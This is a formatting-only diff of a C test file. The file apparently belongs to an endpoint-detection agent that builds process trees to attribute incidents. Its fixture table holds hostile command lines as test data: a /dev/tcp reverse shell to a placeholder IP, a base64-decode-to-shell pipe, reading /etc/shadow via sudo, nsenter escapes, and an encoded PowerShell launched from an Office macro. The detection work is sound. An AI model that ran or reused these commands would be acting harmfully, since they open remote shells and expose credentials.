@@ -1,13 +1,22 @@
 #include "base/test.h"
 #include "incident/incident.h"
 
-#define P(image_, command_) { .image = SV(image_), .command_line = SV(command_) }
-#define UNSEEN(image_, command_)                                               \
-	{ .image = SV(image_), .command_line = SV(command_), .unseen = true }
-#define INPUT(image_, command_, input_)                                        \
-	{ .image = SV(image_), .command_line = SV(command_), .standard_input = SV(input_) }
-#define ENTERED(image_, command_)                                              \
-	{ .image = SV(image_), .command_line = SV(command_), .entered = true }
+#define P(image_, command_)                                                                        \
+	{                                                                                          \
+		.image = SV(image_), .command_line = SV(command_)                                  \
+	}
+#define UNSEEN(image_, command_)                                                                   \
+	{                                                                                          \
+		.image = SV(image_), .command_line = SV(command_), .unseen = true                  \
+	}
+#define INPUT(image_, command_, input_)                                                            \
+	{                                                                                          \
+		.image = SV(image_), .command_line = SV(command_), .standard_input = SV(input_)    \
+	}
+#define ENTERED(image_, command_)                                                                  \
+	{                                                                                          \
+		.image = SV(image_), .command_line = SV(command_), .entered = true                 \
+	}
 #define SSH P("/usr/sbin/sshd", "sshd: tanaka")
 #define LOGIN P("/bin/bash", "-bash")
 
@@ -17,92 +26,182 @@ static const struct {
 	const char *name;
 	int kind;
 	size_t at;
-	int launcher; /* index of the shell that launched it, -1: none */
+	int launcher;			  /* index of the shell that launched it, -1: none */
 	struct incident_process chain[8]; /* ends where there is no image */
 } row[] = {
 	{ "nothing is known", NONE, 0, -1, { { .pid = 0 } } },
-	{ "command line below a login shell", TREE, 1, 2,
+	{ "command line below a login shell",
+	  TREE,
+	  1,
+	  2,
 	  { P("/usr/bin/base64", "base64 -d"), P("/bin/sh", "sh -c echo x | base64 -d | sh"), LOGIN,
 	    SSH } },
-	{ "part of a pipe in a login shell", TREE, 0, 1,
+	{ "part of a pipe in a login shell",
+	  TREE,
+	  0,
+	  1,
 	  { P("/usr/bin/base64", "base64 -d"), LOGIN, SSH } },
-	{ "child of the end of a pipe", TREE, 1, 2,
+	{ "child of the end of a pipe",
+	  TREE,
+	  1,
+	  2,
 	  { P("/usr/bin/id", "id"), P("/bin/sh", "sh"), LOGIN, SSH } },
-	{ "the same with standard input known", TREE, 1, 2,
+	{ "the same with standard input known",
+	  TREE,
+	  1,
+	  2,
 	  { P("/usr/bin/id", "id"), INPUT("/bin/sh", "sh", "pipe"), LOGIN, SSH } },
-	{ "sh -s reads a script", TREE, 1, 2,
+	{ "sh -s reads a script",
+	  TREE,
+	  1,
+	  2,
 	  { P("/usr/bin/id", "id"), P("/bin/sh", "sh -s -- now"), LOGIN, SSH } },
-	{ "shell typed into a shell", TREE, 0, 1,
+	{ "shell typed into a shell",
+	  TREE,
+	  0,
+	  1,
 	  { P("/usr/bin/id", "id"), INPUT("/bin/bash", "bash", "tty"), LOGIN, SSH } },
-	{ "script of a person is one tree", TREE, 1, 2,
+	{ "script of a person is one tree",
+	  TREE,
+	  1,
+	  2,
 	  { P("/usr/bin/curl", "curl x"), P("/bin/bash", "bash ./setup.sh"), LOGIN, SSH } },
-	{ "job of cron", TREE, 1, -1,
+	{ "job of cron",
+	  TREE,
+	  1,
+	  -1,
 	  { P("/usr/bin/curl", "curl x"), P("/bin/sh", "/bin/sh -c /tmp/x"),
 	    P("/usr/sbin/cron", "/usr/sbin/CRON -f"), P("/lib/systemd/systemd", "/sbin/init") } },
-	{ "web server that was seen", TREE, 1, -1,
+	{ "web server that was seen",
+	  TREE,
+	  1,
+	  -1,
 	  { P("/bin/sh", "sh -c id"), P("/usr/sbin/apache2", "apache2 -k start"),
 	    P("/lib/systemd/systemd", "/sbin/init") } },
-	{ "web server older than the agent", TREE, 1, -1,
+	{ "web server older than the agent",
+	  TREE,
+	  1,
+	  -1,
 	  { P("/bin/sh", "sh -c id"), UNSEEN("/usr/sbin/php-fpm8.2", "php-fpm: pool www") } },
-	{ "other program older than the agent", TREE, 0, -1,
+	{ "other program older than the agent",
+	  TREE,
+	  0,
+	  -1,
 	  { P("/bin/sh", "sh -c id"), UNSEEN("/opt/runner", "runner") } },
-	{ "nsenter from a program older than the agent", TREE, 1, -1,
+	{ "nsenter from a program older than the agent",
+	  TREE,
+	  1,
+	  -1,
 	  { P("/bin/sh", "sh -c attack"), P("/usr/bin/nsenter", "nsenter -t 1 sh -c attack"),
 	    UNSEEN("/usr/bin/node", "node test.mjs") } },
-	{ "nsenter that became the shell", TREE, 0, -1,
+	{ "nsenter that became the shell",
+	  TREE,
+	  0,
+	  -1,
 	  { ENTERED("/bin/sh", "sh -c attack"), UNSEEN("/usr/bin/node", "node test.mjs") } },
-	{ "session shell behind nsenter", TREE, 0, 1,
+	{ "session shell behind nsenter",
+	  TREE,
+	  0,
+	  1,
 	  { P("/usr/bin/curl", "curl x"), INPUT("/bin/bash", "bash", "pipe"),
 	    P("/usr/bin/nsenter", "nsenter -t 1 bash"), UNSEEN("/usr/bin/node", "node t") } },
-	{ "nsenter that became a session shell", TREE, 0, 1,
+	{ "nsenter that became a session shell",
+	  TREE,
+	  0,
+	  1,
 	  { P("/usr/bin/curl", "curl x"), ENTERED("/bin/bash", "bash"),
 	    P("/usr/bin/node", "node t"), LOGIN, SSH } },
-	{ "bare shell of a program older than the agent", TREE, 0, 1,
+	{ "bare shell of a program older than the agent",
+	  TREE,
+	  0,
+	  1,
 	  { P("/usr/bin/curl", "curl x"), P("/bin/bash", "bash"), UNSEEN("/usr/bin/node", "n") } },
-	{ "bare shell of a program that was seen", TREE, 2, 3,
+	{ "bare shell of a program that was seen",
+	  TREE,
+	  2,
+	  3,
 	  { P("/usr/bin/curl", "curl x"), P("/bin/bash", "bash"), P("/opt/app", "app"), LOGIN,
 	    SSH } },
-	{ "shell that hangs on python", TREE, 2, 3,
+	{ "shell that hangs on python",
+	  TREE,
+	  2,
+	  3,
 	  { P("/usr/bin/id", "id"), P("/bin/sh", "/bin/sh"),
 	    P("/usr/bin/python3.11", "python3 -c import pty"), LOGIN, SSH } },
-	{ "the same with a terminal", TREE, 2, 3,
+	{ "the same with a terminal",
+	  TREE,
+	  2,
+	  3,
 	  { P("/usr/bin/id", "id"), INPUT("/bin/sh", "/bin/sh", "tty"),
 	    P("/usr/bin/python3.11", "python3 -c import pty"), LOGIN, SSH } },
-	{ "reverse shell", TREE, 2, 3,
+	{ "reverse shell",
+	  TREE,
+	  2,
+	  3,
 	  { P("/usr/bin/id", "id"), INPUT("/bin/bash", "bash -i", "socket"),
 	    P("/bin/bash", "bash -c bash -i >& /dev/tcp/1.2.3.4/4 0>&1"), LOGIN, SSH } },
-	{ "shell on a socket below a launcher", TREE, 1, -1,
+	{ "shell on a socket below a launcher",
+	  TREE,
+	  1,
+	  -1,
 	  { P("/usr/bin/id", "id"), INPUT("/bin/bash", "bash -i", "socket"),
 	    P("/usr/sbin/xinetd", "xinetd") } },
-	{ "pipe into sudo bash", TREE, 2, 3,
+	{ "pipe into sudo bash",
+	  TREE,
+	  2,
+	  3,
 	  { P("/tmp/x", "/tmp/x"), INPUT("/bin/bash", "bash", "pipe"),
 	    P("/usr/bin/sudo", "sudo bash"), LOGIN, SSH } },
-	{ "the same with standard input unknown", TREE, 2, 3,
+	{ "the same with standard input unknown",
+	  TREE,
+	  2,
+	  3,
 	  { P("/tmp/x", "/tmp/x"), P("/bin/bash", "bash"), P("/usr/bin/sudo", "sudo bash"), LOGIN,
 	    SSH } },
-	{ "sudo -i", TREE, 0, 1,
+	{ "sudo -i",
+	  TREE,
+	  0,
+	  1,
 	  { P("/tmp/x", "/tmp/x"), LOGIN, P("/usr/bin/sudo", "sudo -i"), LOGIN, SSH } },
-	{ "sudo su", TREE, 0, 1,
+	{ "sudo su",
+	  TREE,
+	  0,
+	  1,
 	  { P("/tmp/x", "/tmp/x"), P("/bin/bash", "bash"), P("/bin/su", "su"),
 	    P("/usr/bin/sudo", "sudo su"), LOGIN, SSH } },
-	{ "sudo of one command belongs to its tree", TREE, 1, 2,
+	{ "sudo of one command belongs to its tree",
+	  TREE,
+	  1,
+	  2,
 	  { P("/bin/cat", "cat /etc/shadow"), P("/usr/bin/sudo", "sudo cat /etc/shadow"), LOGIN,
 	    SSH } },
 	{ "session shell's own deed", OWN, 0, -1, { LOGIN, SSH } },
 	{ "subshell without a program of its own", TREE, 0, 1, { P("/bin/bash", ""), LOGIN, SSH } },
-	{ "own deed of a process older than the agent", TREE, 0, -1,
+	{ "own deed of a process older than the agent",
+	  TREE,
+	  0,
+	  -1,
 	  { UNSEEN("/usr/bin/python3", "") } },
 	{ "own deed of a shell older than the agent", OWN, 0, -1, { UNSEEN("/bin/bash", "") } },
-	{ "macro of Office", TREE, 2, -1,
+	{ "macro of Office",
+	  TREE,
+	  2,
+	  -1,
 	  { P("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell -e x"),
 	    P("C:\\Windows\\System32\\cmd.exe", "cmd /c x"),
 	    P("C:\\Program Files\\Office\\WINWORD.EXE", "\"C:\\Program Files\\w\" /n x.docm"),
 	    P("C:\\Windows\\Explorer.EXE", "C:\\Windows\\Explorer.EXE") } },
-	{ "command prompt of a person", TREE, 0, 1,
+	{ "command prompt of a person",
+	  TREE,
+	  0,
+	  1,
 	  { P("C:\\Windows\\System32\\whoami.exe", "whoami"),
 	    P("C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" "),
 	    P("C:\\Windows\\explorer.exe", "explorer.exe") } },
-	{ "service of Windows", TREE, 0, -1,
+	{ "service of Windows",
+	  TREE,
+	  0,
+	  -1,
 	  { P("C:\\Windows\\System32\\cmd.exe", "cmd /c x"),
 	    P("C:\\Windows\\System32\\services.exe", "services.exe") } },
 };
@@ -110,7 +209,9 @@ static const struct {
 static size_t length_of(struct incident_process *chain)
 {
 	size_t n = 0;
-	static const char *const guid[] = { "{0}", "{1}", "{2}", "{3}", "{4}", "{5}", "{6}", "{7}" };
+	static const char *const guid[] = {
+		"{0}", "{1}", "{2}", "{3}", "{4}", "{5}", "{6}", "{7}"
+	};
 
 	for (; n < 8 && chain[n].image.n > 0; n++)
 		chain[n].guid = sv_from(guid[n]);
@@ -144,7 +245,9 @@ TEST(chain_is_walked_to_its_limit)
 
 	for (size_t i = 0; i < INCIDENT_CHAIN_MAX + 8; i++)
 		chain[i] = (struct incident_process){
-			.guid = SV("{1}"), .image = SV("/bin/sh"), .command_line = SV("sh"),
+			.guid = SV("{1}"),
+			.image = SV("/bin/sh"),
+			.command_line = SV("sh"),
 		};
 	chain[INCIDENT_CHAIN_MAX + 1].image = SV("/usr/sbin/sshd");
 	root = incident_root(chain, INCIDENT_CHAIN_MAX + 8);
@@ -161,7 +264,9 @@ TEST(chain_is_walked_to_its_limit)
 static struct incident_fact fact(int kind, const char *key, const char *rule, int64_t at)
 {
 	return (struct incident_fact){
-		.event = SV("e"), .rule = sv_from(rule), .key = sv_from(key),
+		.event = SV("e"),
+		.rule = sv_from(rule),
+		.key = sv_from(key),
 		.root = { .kind = (enum incident_tree_kind)kind },
 		.at = { 1000 * INSTANT_SECOND * 1000 + at * INSTANT_SECOND },
 	};
@@ -172,7 +277,8 @@ static struct incident_candidate candidate(int kind, const char *key, const char
 {
 	return (struct incident_candidate){
 		.root = { .kind = (enum incident_tree_kind)kind },
-		.key = sv_from(key), .rule = sv_from(rule),
+		.key = sv_from(key),
+		.rule = sv_from(rule),
 		.first = { 1000 * INSTANT_SECOND * 1000 + first * INSTANT_SECOND },
 		.last = { 1000 * INSTANT_SECOND * 1000 + last * INSTANT_SECOND },
 	};
